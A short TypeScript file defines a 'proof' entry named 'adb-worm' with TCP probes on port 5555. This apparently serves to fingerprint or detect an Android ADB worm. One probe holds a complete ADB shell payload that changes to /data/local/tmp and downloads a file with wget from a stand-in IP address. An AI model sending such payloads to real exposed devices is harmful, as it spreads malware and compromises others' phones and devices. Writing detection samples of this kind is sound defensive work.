import { type Proof, proof, tcp } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'adb-worm',
    tcp(
      5555,
      'CNXN\u0000\u0000\u0000\u0001host::\u0000OPENshell:cd /data/local/tmp; wget http://198.51.100.7/x\u0000',
    ),
    tcp(5555, 'CNXN\u0000\u0000\u0000\u0001host::\u0000'),
  ),
]
